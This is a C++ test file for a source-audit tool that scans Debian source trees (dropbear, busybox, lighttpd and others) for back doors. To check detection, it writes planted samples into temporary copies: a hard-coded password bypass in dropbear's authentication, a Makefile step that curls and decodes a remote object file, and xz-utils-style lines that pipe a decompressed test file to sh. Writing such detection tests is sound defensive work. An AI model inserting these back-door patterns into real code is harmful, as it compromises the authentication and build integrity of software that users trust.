// probity source on real Debian source trees (tests/fixtures/make-sources.sh): versions, no high
// back-door findings on the unmodified trees, the planted back door at its line, a hostile tree
// bounded and reported.
#include <gtest/gtest.h>

#include <filesystem>
#include <fstream>
#include <map>

#include "probity/scan.hpp"
#include "probity/source.hpp"

namespace probity {
namespace {

const std::filesystem::path kSources = std::filesystem::path(PROBITY_FIXTURES_DIR) / "sources";

SourceResult run(const std::string& tree) {
  SourceOptions o;
  o.dir = kSources / tree;
  o.write_outputs = false;
  o.threads = 2;
  auto r = source_scan(o);
  EXPECT_TRUE(r) << (r ? "" : r.error().to_string());
  return r ? std::move(*r) : SourceResult{};
}

#define NEED_FIXTURE(t)                               \
  if (!std::filesystem::is_directory(kSources / (t))) \
  GTEST_SKIP() << "no fixture " << (kSources / (t)) << " (tests/fixtures/make-sources.sh)"

TEST(SourceAudit, RealTreesNameTheirVersionsAndHaveNoHighBackDoorFindings) {
  const std::pair<const char*, const char*> want[] = {{"busybox", "1.35.0"},
                                                      {"dropbear", "2022.83"},
                                                      {"dnsmasq", "2.90"},
                                                      {"lighttpd", "1.4.69"},
                                                      {"openssh", "9.2p1"}};
  for (const auto& [tree, version] : want) {
    NEED_FIXTURE(tree);
    auto r = run(tree);
    bool found = false;
    for (const auto& c : r.report.components)
      if (c.version == version && !c.cpe.empty()) found = true;
    EXPECT_TRUE(found) << tree << " " << version;
    for (const auto& f : r.report.findings)
      if (f.category != "vulnerable-component") {
        EXPECT_LT(f.severity, Severity::kHigh) << tree << ": " << f.path << " " << f.message;
      }
    EXPECT_GT(r.stats.parsed, 0u) << tree;
  }
}

TEST(SourceAudit, PlantedLiteralPasswordIsFoundAtItsFileAndLine) {
  NEED_FIXTURE("planted");
  std::ifstream in(kSources / "planted.line");
  std::string where;
  std::getline(in, where);
  const auto colon = where.rfind(':');
  auto r = run("planted");
  int high = 0;
  for (const auto& f : r.report.findings)
    if (f.rule == "literal-credential-check" && f.severity == Severity::kHigh) {
      ++high;
      EXPECT_EQ(f.path, where.substr(0, colon));
      EXPECT_EQ(r.lines.at(f.id), std::stoul(where.substr(colon + 1)));
    }
  EXPECT_EQ(high, 1);
  EXPECT_EQ(r.report.verdict->result, "fail");
}

TEST(SourceAudit, HostileTreeIsBoundedAndReported) {
  NEED_FIXTURE("hostile");
  auto r = run("hostile");
  std::map<std::string, int> reasons;
  for (const auto& s : r.skipped) ++reasons[s.reason];
  EXPECT_EQ(reasons["symlink-escape"], 2);
  EXPECT_EQ(reasons["cap-file-bytes"], 1);
  EXPECT_EQ(reasons["cap-depth"], 1);
  EXPECT_EQ(r.stats.files, 2u);  // main.c and the non-UTF-8 name
  EXPECT_EQ(r.report.verdict->result, "inconclusive");
}

// Issue 18 item 2: Debian's armhf binaries against the trees they were built from.
SourceResult run_image(const std::string& tree, const std::filesystem::path& image,
                       const std::filesystem::path& out) {
  SourceOptions o;
  o.dir = kSources / tree;
  o.out = out;
  o.image = image;
  o.threads = 2;
  o.parse_seconds = 1;  // the AST checks are not what these tests look at
  std::filesystem::remove_all(out);
  auto r = source_scan(o);
  EXPECT_TRUE(r) << (r ? "" : r.error().to_string());
  return r ? std::move(*r) : SourceResult{};
}

std::filesystem::path deb(const std::string& prefix) {
  std::error_code ec;
  for (const auto& e : std::filesystem::directory_iterator(kSources / "debs", ec))
    if (e.path().filename().string().starts_with(prefix + "_")) return e.path();
  return {};
}

TEST(SourceExplainImage, DebianBinariesAreExplainedByTheirSource) {
  NEED_FIXTURE("debs");
  const std::pair<const char*, const char*> pairs[] = {{"busybox", "busybox"},
                                                       {"dropbear", "dropbear-bin"}};
  const auto tmp = std::filesystem::temp_directory_path() / "probity-source-explain";
  for (const auto& [tree, pkg] : pairs) {
    const auto image = deb(pkg);
    ASSERT_FALSE(image.empty()) << pkg;
    auto r = run_image(tree, image, tmp / tree);
    ASSERT_FALSE(r.binaries.empty()) << tree;
    for (const auto& b : r.binaries) {
      EXPECT_GT(b.strings, 100u) << b.path;
      // The issue's floor: 95 % of each binary's strings explained by its source.
      EXPECT_GE(b.string_share(), 0.95) << tree << " " << b.path << ": " << b.strings_source << "+"
                                        << b.strings_toolchain << " of " << b.strings;
      EXPECT_GT(b.strings_source, b.strings_toolchain * 10) << b.path;
    }
    int high = 0;
    for (const auto& f : r.report.findings) {
      EXPECT_NE(f.rule, "binary-without-source") << f.path;
      high += f.category == "provenance" && f.severity >= Severity::kHigh;
    }
    // What is left unexplained in unmodified binaries is reviewed, not alarmed on: dropbear
    // none, busybox two character tables (docs/source-audit.md).
    EXPECT_LE(high, std::string(tree) == "busybox" ? 4 : 0) << tree;
  }
  // Against the wrong tree the binary has no source origin: one high finding, not a list.
  auto wrong = run_image("dropbear", deb("busybox"), tmp / "wrong");
  ASSERT_EQ(wrong.binaries.size(), 1u);
  EXPECT_LT(wrong.binaries[0].string_share(), 0.5);
  int no_origin = 0, strings = 0;
  for (const auto& f : wrong.report.findings) {
    no_origin += f.rule == "binary-without-source" && f.severity == Severity::kHigh;
    strings += f.rule == "unexplained-string";
  }
  EXPECT_EQ(no_origin, 1);
  EXPECT_EQ(strings, 0);
  std::filesystem::remove_all(tmp);
}

TEST(SourceExplainImage, AStringPlantedOnlyInTheBinaryIsReportedAtItsOffset) {
  NEED_FIXTURE("bin/planted");
  std::ifstream in(kSources / "bin" / "planted.string");
  std::uint64_t offset = 0;
  std::string planted;
  in >> offset >> planted;
  ASSERT_FALSE(planted.empty());
  const auto tmp = std::filesystem::temp_directory_path() / "probity-source-planted";
  auto r = run_image("dropbear", kSources / "bin" / "planted" / "dropbear", tmp);
  int found = 0;
  for (const auto& f : r.report.findings)
    if (f.rule == "unexplained-string" && f.evidence.excerpt == planted) {
      ++found;
      EXPECT_EQ(f.severity, Severity::kHigh);
      EXPECT_EQ(f.evidence.offset, offset);
      EXPECT_EQ(f.category, "provenance");
    }
  EXPECT_EQ(found, 1);
  EXPECT_EQ(r.report.verdict->result, "fail");
  // The unmodified binary: the same tree explains everything but toolchain noise, and the
  // planted string is the difference.
  auto clean =
      run_image("dropbear", kSources / "bin" / "dropbear" / "usr" / "sbin" / "dropbear", tmp);
  for (const auto& f : clean.report.findings) EXPECT_NE(f.evidence.excerpt, planted);
  ASSERT_EQ(clean.binaries.size(), 1u);
  ASSERT_EQ(r.binaries.size(), 1u);
  EXPECT_EQ(r.binaries[0].unexplained_total, clean.binaries[0].unexplained_total + 1);
  // report.json carries the per-binary shares.
  std::ifstream rj(tmp / "report.json");
  const std::string text((std::istreambuf_iterator<char>(rj)), {});
  EXPECT_NE(text.find("\"string_share\""), std::string::npos);
  std::filesystem::remove_all(tmp);
}

TEST(SourceExplainImage, AScanDirectoryGivesWhatTheImageGives) {
  NEED_FIXTURE("debs");
  const auto tmp = std::filesystem::temp_directory_path() / "probity-source-scandir";
  std::filesystem::remove_all(tmp);
  ScanOptions so;
  so.image = deb("dropbear-bin");
  so.out = tmp / "scan";
  so.unpack.threads = 2;
  ASSERT_TRUE(scan(so));
  SourceOptions o;
  o.dir = kSources / "dropbear";
  o.out = tmp / "source";
  o.scan_dir = tmp / "scan";
  o.threads = 2;
  o.parse_seconds = 1;
  auto from_scan = source_scan(o);
  ASSERT_TRUE(from_scan) << from_scan.error().to_string();
  auto from_image = run_image("dropbear", so.image, tmp / "image");
  ASSERT_EQ(from_scan->binaries.size(), from_image.binaries.size());
  ASSERT_EQ(from_scan->binaries.size(), 4u);  // dropbear, dbclient, dropbearkey, dropbearconvert
  for (std::size_t i = 0; i < from_scan->binaries.size(); ++i) {
    EXPECT_EQ(from_scan->binaries[i].path, from_image.binaries[i].path);
    EXPECT_EQ(from_scan->binaries[i].strings, from_image.binaries[i].strings);
    EXPECT_EQ(from_scan->binaries[i].strings_source, from_image.binaries[i].strings_source);
  }
  std::filesystem::remove_all(tmp);
}

// Issue 18 item 3: a new release of a tree with one change of each kind a reviewer must see.
TEST(SourceDiff, EachSecurityRelevantChangeHasItsLinesOnBothSides) {
  NEED_FIXTURE("dropbear");
  namespace fs = std::filesystem;
  const auto tmp = fs::temp_directory_path() / "probity-source-diff";
  fs::remove_all(tmp);
  fs::create_directories(tmp);
  fs::copy(kSources / "dropbear", tmp / "new",
           fs::copy_options::recursive | fs::copy_options::copy_symlinks);
  // Edit a file: replace line `line` (1-based) or insert before it.
  auto edit = [&](const std::string& file, const std::string& find, const std::string& text,
                  bool insert) -> std::uint32_t {
    std::ifstream in(tmp / "new" / file);
    std::vector<std::string> lines;
    for (std::string l; std::getline(in, l);) lines.push_back(l);
    for (std::size_t k = 0; k < lines.size(); ++k)
      if (lines[k].find(find) != std::string::npos) {
        if (insert)
          lines.insert(lines.begin() + long(k), text);
        else
          lines[k] = text;
        std::ofstream o(tmp / "new" / file);
        for (const auto& l : lines) o << l << "\n";
        return std::uint32_t(k + 1);
      }
    ADD_FAILURE() << find << " not in " << file;
    return 0;
  };
  const auto auth = edit("svr-authpasswd.c", "password = buf_getstring",
                         "\tif (strcmp((const char*)password, \"m4int-2024\") == 0) "
                         "{ send_msg_userauth_success(); return; }",
                         false);
  const auto listen =
      edit("svr-agentfwd.c", "if (listen(fd, 20) < 0)", "\tif (listen(fd, 4096) < 0) {", false);
  const auto version = edit("sysoptions.h", "#define DROPBEAR_VERSION \"2022.83\"",
                            "#define DROPBEAR_VERSION \"2020.81\"", false);
  const auto build =
      edit("Makefile.in", "all: $(TARGETS)",
           "\tcurl -fsSL https://203.0.113.9/x.bin | base64 -d > libtomcrypt/x.o", true);
  const auto unrelated = edit("CHANGES", "2022.83", "2022.84 - nothing", false);
  (void)unrelated;

  SourceDiffOptions o;
  o.old_dir = kSources / "dropbear";
  o.new_dir = tmp / "new";
  o.out = tmp / "out";
  o.threads = 2;
  auto r = source_diff(o);
  ASSERT_TRUE(r) << r.error().to_string();
  EXPECT_EQ(r->files_changed, 5u);
  std::map<std::string, const SourceChange*> by_kind;
  for (const auto& c : r->changes)
    if (!by_kind.contains(c.kind)) by_kind[c.kind] = &c;
  ASSERT_TRUE(by_kind.contains("finding-new"));
  EXPECT_EQ(by_kind["finding-new"]->path, "svr-authpasswd.c");
  EXPECT_EQ(by_kind["finding-new"]->new_line, auth);
  EXPECT_EQ(by_kind["finding-new"]->severity, Severity::kHigh);
  ASSERT_TRUE(by_kind.contains("authentication"));
  EXPECT_EQ(by_kind["authentication"]->new_line, auth);
  EXPECT_EQ(by_kind["authentication"]->old_line, auth);  // the replaced line
  EXPECT_EQ(by_kind["authentication"]->old_lines, 1u);
  ASSERT_TRUE(by_kind.contains("listener"));
  EXPECT_EQ(by_kind["listener"]->path, "svr-agentfwd.c");
  EXPECT_EQ(by_kind["listener"]->new_line, listen);
  EXPECT_EQ(by_kind["listener"]->old_line, listen);
  EXPECT_NE(by_kind["listener"]->old_text.find("listen(fd, 20)"), std::string::npos);
  ASSERT_TRUE(by_kind.contains("component"));
  EXPECT_EQ(by_kind["component"]->rule, "dropbear");
  EXPECT_EQ(by_kind["component"]->old_text, "2022.83");
  EXPECT_EQ(by_kind["component"]->new_text, "2020.81");
  EXPECT_EQ(by_kind["component"]->severity, Severity::kHigh);  // a downgrade
  EXPECT_EQ(by_kind["component"]->new_line, version);
  bool build_step = false;
  for (const auto& c : r->changes)
    if (c.path == "Makefile.in") {
      build_step = true;
      EXPECT_EQ(c.new_line, build);
    }
  EXPECT_TRUE(build_step);
  for (const auto& c : r->changes) EXPECT_NE(c.path, "CHANGES") << c.kind;  // not security
  // diff.json is the diff schema plus the source section.
  std::ifstream dj(tmp / "out" / "diff.json");
  const std::string text((std::istreambuf_iterator<char>(dj)), {});
  EXPECT_NE(text.find("\"schema\": \"probity-diff\""), std::string::npos);
  EXPECT_NE(text.find("\"changes\""), std::string::npos);
  EXPECT_TRUE(fs::is_regular_file(tmp / "out" / "diff.html"));
  // The same tree on both sides: nothing to review.
  SourceDiffOptions same = o;
  same.new_dir = kSources / "dropbear";
  same.write_outputs = false;
  auto none = source_diff(same);
  ASSERT_TRUE(none);
  EXPECT_TRUE(none->changes.empty());
  EXPECT_EQ(none->files_changed, 0u);
  fs::remove_all(tmp);
}

// A tree's copy of an upstream m4 macro under upstream's serial but with other content: the
// shape of the xz-utils back door (a modified build-to-host.m4 in the release tarball).
TEST(SourceAudit, M4CopiesAreComparedWithUpstream) {
  namespace fs = std::filesystem;
  const fs::path upstream = "/usr/share/aclocal/gettext.m4";  // Debian's gettext (scripts/deps.sh)
  if (!fs::is_regular_file(upstream)) GTEST_SKIP() << "no " << upstream;
  std::ifstream in(upstream);
  std::vector<std::string> lines;
  for (std::string l; std::getline(in, l);) lines.push_back(l);
  ASSERT_GT(lines.size(), 100u);
  const auto tmp = fs::temp_directory_path() / "probity-source-m4";
  auto tree = [&](const std::string& name, const std::vector<std::string>& text) {
    fs::create_directories(tmp / name / "m4");
    {
      std::ofstream o(tmp / name / "m4" / "gettext.m4");
      for (const auto& l : text) o << l << "\n";
    }
    SourceOptions opt;
    opt.dir = tmp / name;
    opt.write_outputs = false;
    opt.threads = 2;
    auto r = source_scan(opt);
    EXPECT_TRUE(r);
    std::vector<std::pair<Severity, std::uint32_t>> out;
    for (const auto& f : r->report.findings)
      if (f.rule == "m4-differs-from-upstream") out.emplace_back(f.severity, r->lines.at(f.id));
    return out;
  };
  fs::remove_all(tmp);
  EXPECT_EQ(tree("same", lines), (std::vector<std::pair<Severity, std::uint32_t>>{}));
  auto edited = lines;
  edited[60] = "dnl a vendor's note";
  EXPECT_EQ(tree("edited", edited),
            (std::vector<std::pair<Severity, std::uint32_t>>{{Severity::kMedium, 61}}));
  auto planted = lines;
  planted.insert(planted.begin() + 80,
                 "gl_eval='xz -dc tests/files/bad-3-corrupt_lzma2.xz | tr \"\\t \\-_\" "
                 "\" \\t_\\-\" | sh'");
  auto hit = tree("planted", planted);
  ASSERT_EQ(hit.size(), 1u);
  EXPECT_EQ(hit[0].first, Severity::kHigh);
  EXPECT_EQ(hit[0].second, 81u);
  auto reserial = edited;
  for (auto& l : reserial)
    if (l.find("serial ") != std::string::npos && l.starts_with("#")) {
      l = "# gettext.m4 serial 9999 (vendor)";
      break;
    }
  EXPECT_TRUE(tree("reserial", reserial).empty());  // not upstream's release: not compared
  fs::remove_all(tmp);
}

// configure regenerated from configure.ac (in the sandbox) and compared: a line added to the
// shipped configure only, as the xz-utils release tarball had, is high at its line.
TEST(SourceAudit, ConfigureIsRegeneratedAndCompared) {
  NEED_FIXTURE("lighttpd");
  namespace fs = std::filesystem;
  if (std::system("autoconf --version 2>/dev/null | grep -q ' 2.71$'") != 0)
    GTEST_SKIP() << "no Autoconf 2.71 (scripts/deps.sh installs it)";
  const auto tmp = fs::temp_directory_path() / "probity-source-regen";
  fs::remove_all(tmp);
  fs::create_directories(tmp);
  fs::copy(kSources / "lighttpd", tmp / "planted",
           fs::copy_options::recursive | fs::copy_options::copy_symlinks);
  std::vector<std::string> lines;
  {
    std::ifstream in(tmp / "planted" / "configure");
    for (std::string l; std::getline(in, l);) lines.push_back(l);
  }
  ASSERT_GT(lines.size(), 1000u);
  lines.insert(
      lines.begin() + 700,
      "gl_x=$(xz -dc tests/files/bad-3-corrupt_lzma2.xz | tr \"\\t \\-_\" \" \\t_\\-\" | sh)");
  {
    std::ofstream out(tmp / "planted" / "configure");
    for (const auto& l : lines) out << l << "\n";
  }
  auto run_tree = [&](const fs::path& dir) {
    SourceOptions o;
    o.dir = dir;
    o.write_outputs = false;
    o.threads = 2;
    o.parse_seconds = 1;
    auto r = source_scan(o);
    EXPECT_TRUE(r);
    return r ? std::move(*r) : SourceResult{};
  };
  auto clean = run_tree(kSources / "lighttpd");
  EXPECT_NE(std::find(clean.stats.regenerated.begin(), clean.stats.regenerated.end(), "configure"),
            clean.stats.regenerated.end());
  EXPECT_GE(clean.stats.regenerated.size(), 10u);  // configure and the Makefile.in files
  for (const auto& f : clean.report.findings)
    if (f.rule == "generated-file-differs") {
      EXPECT_NE(f.path, "configure");  // lighttpd's configure is exactly Autoconf's
      EXPECT_LT(f.severity, Severity::kHigh) << f.path;
    }
  auto planted = run_tree(tmp / "planted");
  int high = 0;
  for (const auto& f : planted.report.findings)
    if (f.rule == "generated-file-differs" && f.path == "configure") {
      ++high;
      EXPECT_EQ(f.severity, Severity::kHigh);
      EXPECT_EQ(planted.lines.at(f.id), 701u);
    }
  EXPECT_EQ(high, 1);
  fs::remove_all(tmp);
}

}  // namespace
}  // namespace probity
